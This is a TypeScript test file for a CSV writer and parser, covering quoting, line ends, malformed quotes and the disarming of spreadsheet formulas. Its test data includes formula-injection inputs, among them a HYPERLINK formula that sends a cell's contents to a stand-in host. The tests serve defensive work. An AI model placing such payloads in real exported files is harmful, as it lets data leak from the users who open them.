import test from 'ava';
import fc from 'fast-check';
import { formatCsv, parseCsv } from '../../src/util/csv.js';
import { InputError } from '../../src/util/problem.js';

const mark = '\uFEFF';

/** Title, cells of one row, the line that is written. */
const rows: readonly (readonly [string, readonly (string | number)[], string])[] = [
  ['plain cells', ['甲', 'b', 2.5, 0], '甲,b,2.5,0'],
  ['a cell with a comma', ['a,b'], '"a,b"'],
  ['a cell with quotes', ['a"b'], '"a""b"'],
  ['a cell with a line break', ['a\nb', 'c'], '"a\nb",c'],
  ['an empty cell', ['', 'b'], ',b'],
  ['a negative number', [-5, -0.5], '-5,-0.5'],
  ['a formula', ['=1+1'], "'=1+1"],
  ['a formula that begins with a sign', ['+1', '-1'], "'+1,'-1"],
  ['a function of old spreadsheets', ['@SUM(A1)'], "'@SUM(A1)"],
  ['a formula behind a tab or a return', ['\t=1', '\r=1'], "'\t=1,'\r=1"],
  ['a formula in full width', ['＝1', '＋1'], "'＝1,'＋1"],
  [
    'a link that would send data away',
    ['=HYPERLINK("http://x",A1)'],
    `"'=HYPERLINK(""http://x"",A1)"`,
  ],
];
for (const [title, cells, line] of rows)
  test(`${title} is written so that a spreadsheet shows it as it is`, (t) => {
    t.is(formatCsv([cells]), `${mark}${line}\n`);
  });

test('rows end with a line feed on every system, and the mark stands once', (t) => {
  t.is(formatCsv([['a'], ['b']]), `${mark}a\nb\n`);
});

/** Title, text, lines and cells. */
const readable: readonly (readonly [string, string, readonly (readonly [number, object])[]])[] = [
  [
    'two records',
    'id,name\n1,甲\n2,乙\n',
    [
      [2, { id: '1', name: '甲' }],
      [3, { id: '2', name: '乙' }],
    ],
  ],
  ['a byte-order mark', `${mark}id\n1\n`, [[2, { id: '1' }]]],
  [
    'line ends of Windows',
    'id\r\n1\r\n2\r\n',
    [
      [2, { id: '1' }],
      [3, { id: '2' }],
    ],
  ],
  ['no line end at the end', 'id\n1', [[2, { id: '1' }]]],
  ['spaces around cells', ' id , name \n 1 , a b \n', [[2, { id: '1', name: 'a b' }]]],
  [
    'blank lines',
    'id\n\n1\n  \n\n2\n',
    [
      [3, { id: '1' }],
      [6, { id: '2' }],
    ],
  ],
  ['rows that a spreadsheet left empty', 'id,name\n,\n1,a\n , \n', [[3, { id: '1', name: 'a' }]]],
  [
    'line breaks within cells',
    'id,name\n1,"a\n\nb"\n2,c\n\n"3\n",d\n4,e',
    [
      [2, { id: '1', name: 'a\n\nb' }],
      [5, { id: '2', name: 'c' }],
      [7, { id: '3\n', name: 'd' }],
      [9, { id: '4', name: 'e' }],
    ],
  ],
  [
    'a comma and quotes within cells',
    'id,name\n1,"a, ""b"""\n',
    [[2, { id: '1', name: 'a, "b"' }]],
  ],
  ['a row that is too short', 'id,name\n1\n', [[2, { id: '1' }]]],
  ['a row that is too long', 'id,name\n1,a,x\n', [[2, { id: '1', name: 'a' }]]],
  ['a head alone', 'id,name\n', []],
  ['nothing', '', []],
];
for (const [title, text, records] of readable)
  test(`CSV with ${title} is read, with the line on which each record begins`, (t) => {
    t.deepEqual(
      parseCsv(text, 'a.csv').map(({ line, cells }) => [line, { ...cells }]),
      records.map(([line, cells]) => [line, cells]),
    );
  });

/** Title, text, line. */
const broken: readonly (readonly [string, string, number])[] = [
  ['a quote that is not closed', 'id,name\n1,"a\n""b"\n2,"c\n3,d\n', 4],
  ['a quote within a cell', 'id,name\n1,a"b\n', 2],
  ['text behind a closing quote', 'id,name\n1,"a"b\n', 2],
];
for (const [title, text, line] of broken)
  test(`${title} is a problem of the file, with its line`, (t) => {
    const error = t.throws(() => parseCsv(text, 'a.csv'), { instanceOf: InputError });
    const [problem] = error.problems;
    t.is(problem?.code, 'csv-syntax');
    t.deepEqual(problem?.position, { file: 'a.csv', line, column: 1 });
    t.regex(problem?.advice?.zh ?? '', /双引号/);
  });

test('what was written is read back, but for the quote that disarms a formula', (t) => {
  const cell = fc
    .string({ unit: fc.constantFrom('a', '甲', ',', '"', '\n', ' ', '=', '1'), maxLength: 6 })
    .map((text) => text.trim());
  const property = fc.property(fc.array(fc.tuple(cell, cell), { maxLength: 5 }), (pairs) => {
    const full = pairs.map(([left, right]) => [`x${left}`, right] as const);
    const read = parseCsv(formatCsv([['left', 'right'], ...full]), 'a.csv');
    return (
      JSON.stringify(read.map(({ cells }) => [cells['left'], cells['right']])) ===
      JSON.stringify(full.map(([left, right]) => [left, right.replace(/^=/, "'=")]))
    );
  });
  t.notThrows(() => {
    fc.assert(property, { seed: 1, numRuns: 300 });
  });
});
